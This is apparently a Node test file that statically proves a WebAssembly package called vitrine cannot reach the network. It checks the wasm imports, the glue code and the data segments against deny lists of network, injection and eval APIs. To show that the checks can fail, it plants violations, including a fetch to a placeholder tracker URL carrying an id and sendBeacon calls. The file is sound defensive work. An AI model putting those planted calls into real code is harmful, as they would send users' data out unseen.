// The static proof that the built module cannot reach the network (docs/PRIVACY.md explains it).
// It reads pkg/ as shipped:
//  1. the wasm import section: every import comes from the generated glue, and the glue function
//     behind each one names no network API and cannot call or construct a function it is handed;
//  2. the glue itself (comments and string contents aside): `fetch` appears once, loading the
//     package's own .wasm next to the module, and no other network or injection API appears;
//  3. the module's own data (where any property name it could look up lives): no network API or
//     navigation property name.
// Each check is also run against a planted violation, so the test is known to be able to fail.
import test from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import vitrine, { pkgDir } from './load.mjs';

const wasm = readFileSync(pkgDir + 'vitrine_bg.wasm');
const scalar = readFileSync(pkgDir + 'vitrine_scalar_bg.wasm');
const glue = readFileSync(pkgDir + 'vitrine.js', 'utf8');
/** The glue's snippets (the decoder of result tapes), as shipped. */
const snippets = readdirSync(pkgDir + 'snippets', { recursive: true })
  .filter((f) => f.endsWith('.js'))
  .map((f) => [f, readFileSync(pkgDir + 'snippets/' + f, 'utf8')]);

/** APIs that send or fetch, navigate, inject elements or scripts, or run code from text. */
const NETWORK = [
  'fetch', 'XMLHttpRequest', 'sendBeacon', 'WebSocket', 'WebTransport', 'EventSource', 'RTCPeerConnection',
  'Image', 'createElement', 'createElementNS', 'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc',
  'importScripts', 'Worker', 'SharedWorker', 'serviceWorker', 'location', 'href', 'eval', 'Function',
];

/**
 * What the function behind an import must not name: the above, and the generic ways to send,
 * open, navigate or invoke (a method of that name on whatever object the module passes).
 */
const FORBIDDEN = [
  'fetch', 'XMLHttpRequest', 'sendBeacon', 'WebSocket', 'WebTransport', 'EventSource', 'RTCPeerConnection',
  'Image', 'createElement', 'createElementNS', 'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc',
  'write', 'writeln', 'importScripts', 'Worker', 'SharedWorker', 'serviceWorker', 'postMessage',
  'BroadcastChannel', 'open', 'send', 'submit', 'click', 'location', 'href', 'src', 'assign', 'replace',
  'navigate', 'eval', 'Function', 'apply', 'construct', 'import',
];
const word = (w) => new RegExp(`(?<![\\w$])${w}(?![\\w$])`);

/** Host APIs a glue function behind an import may reach, and what `audit()` must say of each. */
const HOST = {
  setTimeout: ['setTimeout'],
  localStorage: ['localStorage'],
  addEventListener: ['storage event', 'pagehide', 'visibilitychange'],
  getRandomValues: ['crypto.getRandomValues'],
  __tcfapi: ['__tcfapi'],
  Reflect: ['Reflect'],
  Date: ['Date'],
  bind: ['bind, on its own CMP callback'],
  tellCopies: ["the page's list of copies of vitrine"],
};

/** The exported functions of a snippet the wasm imports from: name → code. */
function snippetFunctions(module) {
  const [, js] = snippets.find(([f]) => module === `./snippets/${f}`);
  const code = codeOnly(js);
  const map = new Map();
  for (const m of code.matchAll(/^export function (\w+)\(/gm)) {
    map.set(m[1], code.slice(m.index, code.indexOf('\n}', m.index)));
  }
  return map;
}

/**
 * Every call a snippet's code makes (`name(`, `a.b(`), each function and what it calls, in order:
 * what the module reaches through a snippet is exactly this.
 */
function snippetCalls(js) {
  const code = codeOnly(js);
  const out = [];
  for (const m of code.matchAll(/^(?:export )?function (\w+)\(/gm)) {
    const body = code.slice(code.indexOf('{', m.index), code.indexOf('\n}', m.index));
    const calls = [...body.matchAll(/([\w$.]+)\s*\(/g)].map((c) => c[1]).filter((c) => !['if', 'for', 'while', 'catch', 'switch'].includes(c));
    out.push(`${m[1]}: ${calls.join(' ')}`);
  }
  return out;
}

/** The code of a JS source with comments removed and string contents blanked. */
export function codeOnly(src) {
  let out = '';
  for (let i = 0; i < src.length; i++) {
    const c = src[i];
    const next = src[i + 1];
    if (c === '/' && next === '/') {
      while (i < src.length && src[i] !== '\n') i++;
      out += '\n';
    } else if (c === '/' && next === '*') {
      i = src.indexOf('*/', i + 2) + 1;
      if (i === 0) break;
    } else if (c === '"' || c === "'" || c === '`') {
      out += c;
      for (i++; i < src.length && src[i] !== c; i++) if (src[i] === '\\') i++;
      out += c;
    } else {
      out += c;
    }
  }
  return out;
}

/** The import object entries of the glue: name → the code of its function. */
function shims(js) {
  const map = new Map();
  const re = /\n {8}(__wb\w+): function/g;
  const starts = [...js.matchAll(re)];
  starts.forEach((m, k) => {
    const end = k + 1 < starts.length ? starts[k + 1].index : js.indexOf('\n    };', m.index);
    map.set(m[1], codeOnly(js.slice(m.index, end)));
  });
  return map;
}

/** Why a glue function behind an import could reach further than its name says, if it could. */
export function shimProblems(name, body) {
  const problems = [];
  for (const w of FORBIDDEN) {
    if (word(w).test(body)) problems.push(`${name} uses ${w}`);
  }
  // Calling or constructing what the module hands over (a function it found by name).
  if (/(?<![\w$.])arg\d+\s*\(/.test(body) || /\bnew\s+arg\d+/.test(body) || /\]\s*\(/.test(body)) {
    problems.push(`${name} calls a function it is given`);
  }
  // `.call(`: only a fixed built-in method (`Uint8Array.prototype.set.call(…)`).
  for (const m of body.matchAll(/([\w$.]*)\.call\s*\(/g)) {
    if (!/^[A-Z]\w*\.prototype\.\w+$/.test(m[1])) problems.push(`${name} calls ${m[1] || 'something'} indirectly`);
  }
  return problems;
}

/** The glue's code outside import functions: what may fetch, and what it fetches. */
export function glueProblems(js) {
  const code = codeOnly(js);
  const problems = [];
  const fetches = [...code.matchAll(/(?<![\w$.])fetch\s*\(/g)];
  if (fetches.length !== 1) problems.push(`fetch( appears ${fetches.length} times`);
  if (!/module_or_path = fetch\(module_or_path\);/.test(code)) problems.push('fetch is not the loader of the .wasm');
  // The only URLs the glue makes: the two .wasm files next to it (each a literal, for bundlers).
  const urls = [...js.matchAll(/new\s+URL\s*\(([^)]*)\)/g)].map((m) => m[1]);
  if (JSON.stringify(urls) !== JSON.stringify(["'vitrine_bg.wasm', import.meta.url", "'vitrine_scalar_bg.wasm', import.meta.url"])) {
    problems.push('the loader does not default to the .wasm next to the module');
  }
  for (const w of NETWORK.filter((w) => w !== 'fetch')) {
    if (word(w).test(code)) problems.push(`the glue uses ${w}`);
  }
  if (/(?<![\w$.])import\s*\(/.test(code)) problems.push('the glue imports code dynamically');
  return problems;
}

/** The module's data segments, as text. */
function dataSegments(bytes) {
  let p = 8;
  const leb = () => {
    let r = 0;
    let shift = 0;
    let b;
    do {
      b = bytes[p++];
      r += (b & 127) * 2 ** shift;
      shift += 7;
    } while (b & 128);
    return r;
  };
  let text = '';
  while (p < bytes.length) {
    const id = bytes[p++];
    const len = leb();
    if (id === 11) text += bytes.subarray(p, p + len).toString('latin1');
    p += len;
  }
  return text;
}

/** Names the module could look up on a JS object to send, navigate or inject. */
const DATA_FORBIDDEN = [
  'fetch', 'XMLHttpRequest', 'sendBeacon', 'WebSocket', 'WebTransport', 'EventSource', 'RTCPeerConnection',
  'Image', 'createElement', 'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc', 'importScripts',
  'Worker', 'postMessage', 'location', 'href', 'eval', 'Function',
];
export function dataProblems(text) {
  const letters = (w) => new RegExp(`(?<![A-Za-z])${w}(?![A-Za-z])`);
  return DATA_FORBIDDEN.filter((w) => letters(w).test(text)).map((w) => `the module's data holds "${w}"`);
}

test('the wasm imports only glue functions, and none can reach the network or call what it is handed', (t) => {
  const imports = WebAssembly.Module.imports(new WebAssembly.Module(wasm));
  assert.ok(imports.length > 10);
  const bodies = shims(glue);
  const problems = [];
  for (const i of imports) {
    assert.equal(i.kind, 'function', `${i.name} is a function`);
    if (i.module !== './vitrine_bg.js') {
      // Straight from a snippet: checked by the snippets' test below, call by call.
      assert.ok(snippets.some(([f]) => i.module === `./snippets/${f}`), `${i.name} comes from the glue or a snippet`);
      assert.ok(snippetFunctions(i.module).has(i.name), `${i.name} is a function of its snippet`);
      continue;
    }
    const body = bodies.get(i.name);
    assert.ok(body, `${i.name} has a glue function`);
    problems.push(...shimProblems(i.name, body));
  }
  assert.deepEqual(problems, []);
  t.diagnostic(`${imports.length} imports checked`);
  // audit().network.imports names every host API an import reaches (built-ins aside).
  const said = vitrine.Vitrine.open({ catalog: [] }).audit().network.imports;
  const reached = new Set([...bodies.entries()]
    .filter(([name]) => imports.some((i) => i.name === name))
    .flatMap(([, body]) => Object.keys(HOST).filter((api) => word(api).test(body))));
  assert.ok(reached.has('localStorage') && reached.has('setTimeout'), [...reached].join());
  for (const api of reached) {
    for (const phrase of HOST[api]) assert.ok(said.includes(phrase), `audit().network.imports says ${phrase}`);
  }
  // The checks find what they look for.
  assert.deepEqual(shimProblems('a', 'function(arg0) { navigator.sendBeacon(arg0) }'), ['a uses sendBeacon']);
  assert.deepEqual(shimProblems('b', 'function(arg0, arg1) { const ret = arg0.call(arg1); }'), ['b calls arg0 indirectly']);
  assert.deepEqual(shimProblems('c', 'function(arg0, arg1) { arg0(arg1) }'), ['c calls a function it is given']);
  assert.deepEqual(shimProblems('d', 'function(arg0, arg1) { arg0.location.href = arg1 }'), ['d uses location', 'd uses href']);
  assert.deepEqual(shimProblems('e', 'function(a, b) { Uint8Array.prototype.set.call(a, b) }'), []);
});

test('the glue fetches nothing but its own .wasm and injects nothing', () => {
  assert.deepEqual(glueProblems(glue), []);
  const planted = glue.replace('function __wbg_get_imports', "fetch('https://tracker.invalid/?id=' + x);\nfunction __wbg_get_imports");
  assert.deepEqual(glueProblems(planted), ['fetch( appears 2 times']);
  assert.deepEqual(glueProblems(`${glue}\nconst s = document.createElement('script');`), ['the glue uses createElement']);
  assert.deepEqual(glueProblems(`${glue}\n// fetch('x') in a comment\nconst t = "sendBeacon";`), [], 'comments and strings are not code');
});

test('the snippets the glue imports use no network API and import nothing', () => {
  assert.ok(snippets.length >= 1);
  const imports = [...glue.matchAll(/^import .* from '(.*)';$/gm)].map((m) => m[1]);
  assert.deepEqual(imports.sort(), snippets.map(([f]) => `./snippets/${f}`).sort(), 'the glue imports only its snippets');
  for (const [file, js] of snippets) {
    const code = codeOnly(js);
    for (const w of NETWORK) assert.ok(!word(w).test(code), `${file} uses ${w}`);
    assert.ok(!/(?<![\w$.])import\s*\(|^import /m.test(code), `${file} imports code`);
  }
  // The snippet the wasm imports from directly: the page's list of vitrine's copies, and the one
  // call of a function it did not define — another copy's, given only the namespace written.
  const [, copies] = snippets.find(([f]) => f.endsWith('copies.js'));
  assert.deepEqual(snippetCalls(copies), [
    'copies: Array.isArray Object.defineProperty',
    'joinCopies: copies all.includes all.push',
    'tellCopies: Array.from roomy queueMicrotask tellCopies other',
    'roomy: depth',
    'depth: depth',
  ]);
  assert.match(codeOnly(copies), /(?<![\w$.])other\(namespace\);/);
  assert.deepEqual(snippetCalls('function f(a) {\n  a.b(1); fetch(a);\n}'), ['f: a.b fetch'], 'the check finds calls');
});

test('both builds import the same, and only vitrine_bg.wasm uses SIMD', async () => {
  const names = (bytes) => WebAssembly.Module.imports(new WebAssembly.Module(bytes)).map((i) => `${i.module}.${i.name}`);
  assert.deepEqual(names(scalar), names(wasm));
  // Validation with every feature but SIMD: the scalar build passes, the SIMD build does not.
  const { default: binaryen } = await import('binaryen');
  const withoutSimd = (bytes) => {
    const m = binaryen.readBinary(bytes);
    m.setFeatures(binaryen.Features.All & ~binaryen.Features.SIMD128);
    const error = console.error;
    console.error = () => {}; // binaryen prints the offending instruction
    try { return m.validate() === 1; } finally { console.error = error; m.dispose(); }
  };
  assert.equal(withoutSimd(scalar), true, 'the scalar build runs without SIMD');
  assert.equal(withoutSimd(wasm), false, 'the SIMD build uses SIMD');
});

test("the module's data names no network API or navigation property (both builds)", () => {
  for (const bytes of [wasm, scalar]) {
    const text = dataSegments(bytes);
    assert.ok(text.length > 1000, 'data segments found');
    assert.deepEqual(dataProblems(text), []);
  }
  assert.deepEqual(dataProblems('x\0sendBeacon\0retrieval\0location'), ['the module\'s data holds "sendBeacon"', 'the module\'s data holds "location"']);
});
